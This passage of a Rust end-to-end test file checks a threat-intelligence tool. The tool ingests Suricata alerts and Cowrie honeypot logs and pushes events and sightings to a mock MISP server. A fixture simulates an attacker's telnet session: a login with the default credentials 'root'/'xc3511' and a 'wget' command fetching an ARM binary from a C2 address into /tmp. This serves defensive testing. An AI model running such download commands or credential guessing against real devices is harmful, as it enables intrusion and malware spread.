        let rep = json(&r);
        let eve_alerts = suriguard_e2e::eve_counts(&log.eve_json())
            .get("alert")
            .copied()
            .unwrap_or(0);
        assert!(eve_alerts > 0, "no alert in {}", log.eve_json().display());
        assert_eq!(rep[0]["new"], eve_alerts, "every alert stored once: {rep}");
        total += eve_alerts;
        // Reading again adds nothing.
        let r = ctl(
            &cfg,
            &[
                "alerts",
                "ingest",
                "--eve",
                log.eve_json().to_str().unwrap(),
                "-o",
                "json",
            ],
            &[],
        );
        assert_eq!(json(&r)[0]["new"], 0, "{r}");
    }
    let stored = incidents(&cfg);
    assert_eq!(stored.len() as u64, total);
    let telnet_alerts: Vec<_> = stored
        .iter()
        .filter(|i| i["signature_id"] == 9100101)
        .collect();
    assert!(!telnet_alerts.is_empty());
    assert!(telnet_alerts
        .iter()
        .all(|i| i["severity"] == 1 && i["dest_port"] == 23));
    assert!(
        stored
            .iter()
            .any(|i| i["intel_set"] == "suriguard-ip-dst-v4" && i["dest_ip"] == "45.63.119.177"),
        "{stored:?}"
    );

    let r = ctl(&cfg, &["events", "push", "-o", "json"], &env);
    r.assert_success();
    let rep = json(&r);
    let reqs = misp.take_requests();
    assert!(
        reqs.iter().all(|q| q["errors"] == serde_json::json!([])),
        "{reqs:?}"
    );
    let state = misp.get_json("/__state");
    let events = state["events"].as_array().unwrap();
    let telnet_event = events
        .iter()
        .find(|e| {
            e["info"]
                .as_str()
                .unwrap()
                .contains("SG TEST telnet session")
        })
        .unwrap_or_else(|| panic!("{events:?}"));
    assert_eq!(telnet_event["threat_level_id"], "1");
    // Alerts of one session (same source and signature) share one event.
    let sources: std::collections::BTreeSet<&str> = telnet_alerts
        .iter()
        .map(|i| i["src_ip"].as_str().unwrap())
        .collect();
    let telnet_events = events
        .iter()
        .filter(|e| {
            e["info"]
                .as_str()
                .unwrap()
                .contains("SG TEST telnet session")
        })
        .count();
    assert_eq!(telnet_events, sources.len(), "{rep}");
    let sightings: Vec<&str> = state["sightings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["attribute_uuid"].as_str().unwrap())
        .collect();
    assert!(sightings.contains(&c2_attr.as_str()), "{sightings:?}");
    let pushed = incidents(&cfg)
        .iter()
        .filter(|i| i["misp_state"] == "pushed")
        .count() as u64;
    let wanted = stored
        .iter()
        .filter(|i| i["severity"].as_u64().unwrap() <= 2)
        .count() as u64;
    assert_eq!(pushed, wanted, "{rep}");
}

/// A honeypot visitor MISP already knows (an Infoblox C2 address in rulesync's index):
/// `honeypot follow --once` decides it, `events push --ingest` makes the decision an
/// event whose attributes hold the fetched payload's URL and SHA-256 as IDS indicators,
/// and the visitor's address gets a sighting on the attribute MISP had.
#[test]
fn a_honeypot_visitor_reaches_misp_with_its_payload_and_a_sighting() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let (misp, cfg) = with_misp(dir, "");
    let (_, c2_attr) = infoblox_origin("45.63.119.177");
    let log = dir.join("cowrie.json");
    let ev = |id: &str, t: &str, extra: &str| {
        format!(
            r#"{{"eventid":"{id}","src_ip":"45.63.119.177","timestamp":"2024-03-01T11:00:{t}Z","session":"a1b2c3","protocol":"telnet","sensor":"cam","dst_ip":"192.168.1.5","dst_port":2323{extra}}}"#
        ) + "\n"
    };
    let sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    std::fs::write(
        &log,
        ev("cowrie.session.connect", "00.000000", "")
            + &ev(
                "cowrie.login.failed",
                "00.100000",
                r#","username":"root","password":"root""#,
            )
            + &ev(
                "cowrie.login.success",
                "00.200000",
                r#","username":"root","password":"xc3511""#,
            )
            + &ev(
                "cowrie.command.input",
                "00.300000",
                r#","input":"cd /tmp; wget http://45.63.119.177/bins/arm7""#,
            )
            + &ev(
                "cowrie.session.file_download",
                "00.400000",
                &format!(r#","url":"http://45.63.119.177/bins/arm7","shasum":"{sha}""#),
            ),
    )
    .unwrap();
    let env = [("SG_TEST_MISP_KEY", MISP_KEY)];
    let r = ctl(
        &cfg,
        &[
            "-o",
            "json",
            "honeypot",
            "follow",
            "--once",
            "--cowrie-log",
            &log.display().to_string(),
        ],
        &[],
    );
    r.assert_success();
    let rep = json(&r);
    assert_eq!(rep["decisions"].as_array().unwrap().len(), 1, "{rep:#}");
    let r = ctl(&cfg, &["events", "push", "--ingest", "-o", "json"], &env);
    r.assert_success();
    let pushed = json(&r);
    assert_eq!(pushed["pushed"], 1, "{pushed}");
    assert_eq!(pushed["sightings"], 1, "{pushed}");
    let state = misp.get_json("/__state");
    let event = state["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["info"].as_str().unwrap().contains("honeypot"))
        .unwrap_or_else(|| panic!("no honeypot event: {state:#}"));
    let attrs: Vec<(&str, &str, bool)> = event["Attribute"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                a["type"].as_str().unwrap(),
                a["value"].as_str().unwrap(),
                a["to_ids"].as_bool().unwrap_or(false),
            )
        })
        .collect();
    for want in [
        ("ip-src", "45.63.119.177", true),
        ("url", "http://45.63.119.177/bins/arm7", true),
        ("sha256", sha, true),
    ] {
        assert!(attrs.contains(&want), "{want:?} missing: {attrs:?}");
    }
    assert_eq!(sightings(&state), [c2_attr.as_str()]);
    for q in misp.take_requests() {
        assert_eq!(
            q["errors"],
            serde_json::json!([]),
            "invalid against openapi.yaml: {q}"
        );
    }
}
